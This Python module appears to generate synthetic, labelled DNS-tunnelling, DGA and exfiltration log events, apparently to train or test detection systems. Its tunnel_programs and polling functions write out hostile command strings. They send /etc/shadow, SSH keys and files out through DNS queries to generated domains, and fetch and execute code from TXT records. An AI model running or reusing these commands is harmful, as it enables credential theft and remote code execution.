"""Tunnels over DNS and generated names as sensors, name servers of other formats and typed commands show them."""

from __future__ import annotations

import base64

from generator.families.network.dns_record_variants import Writer
from generator.scene import Scene, attack, benign, family
from generator.world import World

_tunnel = attack("DNS Tunnelling", "T1071.004", severity="HIGH")
_leak = attack("DNS Tunnelling", "T1048.003", severity="CRITICAL")
_generated = attack("DNS Tunnelling", "T1568.002", severity="HIGH")


def _carrier(world: World) -> str:
    """The domain that a tunnel ends in: an own one, a free one, or one that sounds like a service."""
    return world.pick([f"{world.word(world.number(4, 9))}.{world.pick(['net', 'org', 'info', 'top', 'xyz', 'me', 'com'])}", f"t.{world.word(7)}.com", f"ns{world.number(1, 4)}.{world.word(6)}.online", f"{world.word(6)}.duckdns.org", f"{world.word(5)}-updates.net", f"api.{world.word(6)}-cloud.com", f"{world.word(5)}.ddns.net"])


def _payload(world: World) -> str:
    """What one question carries, in the writing of some tool."""
    data = world.rng.randbytes(world.number(18, 38))
    sequence = world.number(0, 4000)
    return world.pick([
        data.hex()[:60], base64.b32encode(data).decode().strip("=").lower()[:62], base64.b64encode(data).decode().replace("/", "-").replace("+", "_").strip("=")[:60],
        f"{data.hex()[:50]}.{world.hex(50)}", f"{sequence:04x}.{data.hex()[:44]}", f"{sequence}.{base64.b32encode(data).decode().strip('=')[:50]}.{world.number(1, 99)}",
        f"0{world.word(3)}{base64.b32encode(data).decode().lower().strip('=')[:55]}", f"{world.hex(18)}.{world.hex(60)}.{world.hex(60)}", f"post.{world.number(1, 9)}{data.hex()[:48]}.{sequence}.{world.hex(8)}", f"chunk-{sequence}-of-{sequence + world.number(3, 900)}.{data.hex()[:40]}",
        f"{world.pick(['passwd', 'id_rsa', 'customers-csv', 'ntds'])}.{sequence}.{data.hex()[:40]}",
    ])


@family("network/queries-carrying-data", attack=True, weight=1.6)
def carrying_data(world: World) -> Scene:
    scene, writer, carrier = Scene(), Writer(world), _carrier(world)
    kind = world.pick(["TXT", "NULL", "CNAME", "MX", "A", "AAAA", "TXT", "SRV"])
    label = world.pick([_tunnel, _leak])
    for _ in range(world.pick([2, 3, 5, 8, 14, 25])):
        world.tick(0.05, world.pick([1, 5, 30]))
        scene.add(writer.query(f"{_payload(world)}.{carrier}", kind), label)
    if world.chance(0.3):
        other = Writer(world)
        scene.add(other.query(f"www.{world.domain}", "A"), benign("Network Service"))
    return scene


@family("network/implant-polling-by-name", attack=True)
def polling(world: World) -> Scene:
    """The same short question with a counter, again and again, and an order in the TXT answer."""
    scene, writer, carrier = Scene(), Writer(world), _carrier(world)
    prefix = world.pick(["aaa.stage", "www6", "cdn", "post", "api", "beacon", "ping", "poll", "cmd", "job", "task"])
    for number in range(world.pick([2, 3, 6, 10])):
        world.tick(5, 90)
        answer = world.pick([base64.b64encode(world.rng.randbytes(60)).decode(), "powershell -nop -c iex(" + world.word(4) + ")", "exec:whoami /all", "sleep 60", "0.0.0.0", base64.b64encode(b"cmd /c ipconfig /all && net user").decode(), "v=" + world.hex(90)])
        scene.add(writer.answered(f"{prefix}.{world.hex(8)}{number:02x}.{world.hex(12)}.{carrier}", world.pick(["TXT", "A", "TXT"]), answer), _tunnel)
    return scene


@family("network/names-made-by-a-program", attack=True, weight=1.4)
def made_names(world: World) -> Scene:
    scene, writer = Scene(), Writer(world)
    style = world.pick(["letters", "hex", "words", "dynamic"])
    ends = world.some(["com", "net", "biz", "info", "ru", "top", "xyz", "cc", "pw", "ws", "su", "eu", "org", "click"], 1, 5)
    words = "table garden silver always people water strong letter winter second building perhaps mother chief electric".split()
    for _ in range(world.pick([3, 5, 9, 16, 28])):
        world.tick(0.1, 8)
        name = {"letters": world.word(world.number(11, 24)), "hex": world.hex(world.pick([16, 24, 32])), "words": world.pick(words) + world.pick(words), "dynamic": f"{world.word(world.number(7, 12))}.{world.pick(['ddns.net', 'dyndns.org', 'hopto.org', 'mooo.com'])}"}[style]
        scene.add(writer.failed(f"{name}.{world.pick(ends)}" if style != "dynamic" else name), _generated)
    return scene


@family("network/dns-sensor-findings", attack=True, weight=1.4)
def sensor_findings(world: World) -> Scene:
    carrier, client, count = _carrier(world), world.ip_private(), world.number(300, 90000)
    forms = [
        (_tunnel, f"date={world.local():%Y-%m-%d} time={world.local():%H:%M:%S} type=\"utm\" subtype=\"dns\" eventtype=\"dns-response\" level=\"warning\" srcip={client} qname=\"{_payload(world)}.{carrier}\" qtype=\"TXT\" msg=\"Domain was blocked by dns botnet C&C\" action=\"block\" botnetdomain=\"{carrier}\""),
        (_tunnel, f"1,{world.local():%Y/%m/%d %H:%M:%S},012801{world.number(100000, 999999)},THREAT,spyware,2561,{client},8.8.8.8,dns-out,trust,untrust,{world.pick(['sinkhole', 'drop', 'alert'])},\"{carrier}\",Tunneling:{carrier}({world.number(109001000, 109009999)}),any,{world.pick(['high', 'critical'])},client-to-server"),
        (_generated, f"1,{world.local():%Y/%m/%d %H:%M:%S},0155{world.number(1000, 9999)},THREAT,spyware,2561,{client},{world.ip_public()},Allow DNS,lan,wan,sinkhole,\"{world.word(17)}.top\",DGA:{world.word(17)}.top({world.number(109000000, 109000999)}),high"),
        (_tunnel, f"Zeek::Notice {world.now.timestamp():.6f} {client} DNS_Tunnel::Suspicious_Query_Length {count} queries with average name length {world.number(110, 220)} to {carrier}, record TXT, no other connection to that domain"),
        (_leak, f"[**] [1:{world.number(2027000, 2049999)}:2] ET MALWARE {world.pick(['Cobalt Strike DNS Beacon', 'DNSCat2 Session', 'Possible Iodine DNS Tunnel', 'SUNBURST-style encoded subdomain', 'dnsExfiltrator upload'])} [**] [Priority: 1] {{UDP}} {client}:{world.port()} -> {world.ip_private()}:53"),
        (_generated, f"<134>1 {world.time_iso(0)} infoblox threat-protect-log - - - CEF:0|Infoblox|NIOS Threat|8.6|RPZ-QNAME|NXDOMAIN|7|src={client} fqdn={world.word(19)}.biz cat=DGA msg=\"rpz QNAME NXDOMAIN rewrite {world.word(19)}.biz [A] via dga.rpz.local\""),
        (_tunnel, f"{{\"detection\":\"DNS tunnelling\",\"score\":{world.number(80, 99)},\"client\":\"{client}\",\"domain\":\"{carrier}\",\"unique_subdomains\":{count},\"avg_entropy\":4.{world.number(1, 9)},\"txt_share\":0.9{world.number(0, 9)}}}"),
        (_tunnel, f"Pi-hole audit: client {client} sent {count} TXT questions for {count - world.number(0, 9)} different names below {carrier} within {world.number(4, 55)} minutes"),
        (_generated, f"{world.time_plain()} WARN dns-analytics client={client} nxdomain={count} distinct_names={count} pattern=random-consonants verdict=DGA family={world.pick(['necurs', 'conficker', 'qakbot', 'gameover', 'matsnu'])}"),
        (_tunnel, f"DNS-Sensor: {count} NULL-Anfragen an {carrier} von {client}, Namen bis 253 Zeichen, iodine-Handschlag erkannt"),
        (_tunnel, f"SourceIP={client} Query={_payload(world)}.{carrier} Type=NULL Policy=\"Outbound DNS\" Category=\"DNS Tunneling VPN\" Action={world.pick(['Blocked', 'Allowed'])}"),
        (_leak, f"AGDNS rule=exfil client={client} bytes_out={count * 90} via=TXT/A labels=4 domain={carrier} message=\"large amount of data leaves in query names\""),
    ]
    scene = Scene()
    for label, text in world.some(forms, 1, world.pick([1, 1, 2])):
        scene.add(text, label)
    return scene


@family("network/tunnel-programs-started", attack=True, weight=1.4)
def tunnel_programs(world: World) -> Scene:
    carrier, secret = _carrier(world), world.word(10)
    command = world.pick([
        f"iodine -f -P {secret} {world.ip_public()} {carrier}", f"./iod -r -T TXT {carrier}", f"/usr/sbin/iodine -f -r -I 50 -M 200 {carrier}", f"iodined -c -P {secret} 10.9.0.1/24 {carrier}", f"dnscat --dns server={world.ip_public()},port=53 --secret={world.hex(32)}", f"./dnscat2 --dns domain={carrier} --max-retransmits 60",
        f"powershell -ep bypass -c \"Import-Module .\\dnscat2.ps1; Start-Dnscat2 -Domain {carrier} -PreSharedSecret {secret}\"", f"dns2tcpc -r ssh -z {carrier} -l 2222 -k {secret} {world.ip_public()}", f"for c in $(xxd -p -c 28 /etc/shadow); do dig +short $c.{carrier}; done", f"base64 -w 45 /root/.ssh/id_rsa | while read l; do host -t TXT $l.{carrier} >/dev/null; sleep 1; done",
        f"tar cz /srv/clients | xxd -p | fold -w 60 | xargs -I% nslookup %.{carrier}", f"$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Finance\\q4.xlsx')); $b -split '(.{{50}})' | % {{ Resolve-DnsName \"$_.{carrier}\" -Type A }}", f"Invoke-DNSExfiltrator -i C:\\Users\\Public\\dump.zip -d {carrier} -p {secret} -t 500",
        f"cmd /v /c \"for /f %a in ('certutil -encodehex -f secrets.txt CON 12') do nslookup %a.{carrier}\"", f"IEX ((Resolve-DnsName -Type TXT {carrier}).Strings -join '')", f"bash -c \"$(dig +short TXT stage.{carrier} | tr -d '\\\"' | base64 -d)\"", f"nslookup -q=txt run.{carrier} | findstr /r \"exec\" > %TEMP%\\r.cmd && %TEMP%\\r.cmd", f"python3 -c \"import dns.resolver as r;exec(bytes.fromhex(''.join(str(x).strip(chr(34)) for x in r.resolve('p.{carrier}','TXT'))))\"",
    ])
    label = world.pick([_tunnel, _leak])
    windows = any(word in command for word in ("powershell", "Resolve-Dns", "Invoke-", "cmd /", "%TEMP%"))
    scene, user = Scene(), world.user()
    if windows:
        text = world.pick([f"EventID=1 Image=C:\\Windows\\System32\\cmd.exe User={world.company.upper()}\\{user} ParentImage=C:\\Windows\\explorer.exe CommandLine={command}", f"4104 Creating Scriptblock text (1 of 1): {command} ScriptBlock ID: {world.uuid()}", f"{world.time_plain()} {world.workstation()} 4688 New Process: {command} Creator: explorer.exe"])
    else:
        text = world.pick([world.syslog("bash", f"HISTORY: PID={world.pid()} UID=1000 {command}", world.pid()), world.syslog("sudo", f"{user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={command}"), f'type=EXECVE msg=audit({world.now.timestamp():.3f}:{world.number(1000, 99999)}): proctitle="{command}"', f"{world.time_iso(3)} execsnoop {user} {world.pid()} {command}"])
    scene.add(text, label)
    if world.chance(0.4):
        writer = Writer(world)
        for _ in range(world.number(1, 4)):
            world.tick(0.1, 3)
            scene.add(writer.query(f"{_payload(world)}.{carrier}", world.pick(["TXT", "NULL", "A"])), label)
    return scene
